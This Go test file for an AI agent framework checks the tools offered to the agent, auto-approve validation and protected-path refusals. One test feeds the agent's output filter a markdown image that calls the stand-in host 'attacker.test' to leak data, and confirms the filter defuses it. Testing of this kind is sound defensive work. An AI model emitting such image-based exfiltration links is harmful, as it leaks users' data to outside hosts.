package assembly

import (
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/paddock-dev/paddock/internal/agent"
	"github.com/paddock-dev/paddock/internal/llm"
	"github.com/paddock-dev/paddock/internal/policy"
	"github.com/paddock-dev/paddock/internal/store"
	"github.com/paddock-dev/paddock/internal/tool"
	"github.com/paddock-dev/paddock/internal/workspace"
)

// nobody is an Approver test double that refuses every call.
type nobody struct{}

func (nobody) Confirm(context.Context, string, string, string) (policy.Answer, error) {
	return policy.Answer{Reply: policy.No}, nil
}

// discard is a Recorder test double that keeps nothing.
type discard struct{}

func (discard) CreateTask(context.Context, *store.Task) error { return nil }
func (discard) UpdateTask(context.Context, *store.Task) error { return nil }
func (discard) AddStep(context.Context, *store.Step) error    { return nil }

func newConfig(t *testing.T) Config {
	t.Helper()
	ws, err := workspace.Create(t.TempDir(), workspace.Limits{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ws.Close() })
	return Config{Tenant: "local", Goal: "g", Model: llm.NewScripted("scripted"), Workspace: ws,
		Approver: nobody{}, Store: discard{}, Web: &Web{}}
}

func TestToolsOffered(t *testing.T) {
	cfg := newConfig(t)
	run, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	got := strings.Join(run.Agent.Tools.Names(), ",")
	want := "ask_user,download_file,finish,list_folder,read_file,read_webpage,write_file"
	if got != want {
		t.Fatalf("tools = %s, want %s", got, want)
	}
	cfg.Web = nil
	run, err = New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(run.Agent.Tools.Names(), ","); strings.Contains(got, "webpage") {
		t.Fatalf("web tools offered without Web: %s", got)
	}
	// The agent's own output is always defused against the run's network policy.
	if s := run.Agent.Neutralise("![x](https://attacker.test/p?d=1)"); strings.Contains(s, "attacker.test/p") {
		t.Fatalf("an image to an ungranted host survived: %s", s)
	}
}

func TestAutoApproveNames(t *testing.T) {
	cfg := newConfig(t)
	cfg.Policy.AutoApprove = []string{"execute_shell"}
	if _, err := New(cfg); !errors.Is(err, ErrConfig) {
		t.Fatalf("unknown tool to auto-approve: %v, want ErrConfig", err)
	}
	cfg.IgnoreUnknownAutoApprove = true
	if _, err := New(cfg); err != nil {
		t.Fatalf("a server-wide list with a tool this run lacks: %v", err)
	}
}

// TestProtectedPathsRefusedByEveryTool: write_file and download_file, as assembled for every
// front door, refuse every protected path, and download_file does so before any network traffic
// (the run grants no host, so reaching the network would fail differently).
func TestProtectedPathsRefusedByEveryTool(t *testing.T) {
	run, err := New(newConfig(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range workspace.ProtectedPaths {
		name := strings.TrimSuffix(p, "/")
		if strings.HasSuffix(p, "/") {
			name = p + "x"
		}
		for _, tc := range []struct{ tool, args string }{
			{tool.WriteFile, `{"filename":"` + name + `","contents":"x"}`},
			{"download_file", `{"url":"https://example.com/x","filename":"` + name + `"}`},
		} {
			tl, err := run.Agent.Tools.Get(tc.tool)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := tool.Invoke(context.Background(), tl, tc.args); !errors.Is(err, workspace.ErrProtected) {
				t.Errorf("%s %s: %v, want ErrProtected", tc.tool, name, err)
			}
		}
	}
}

var _ agent.Recorder = discard{}
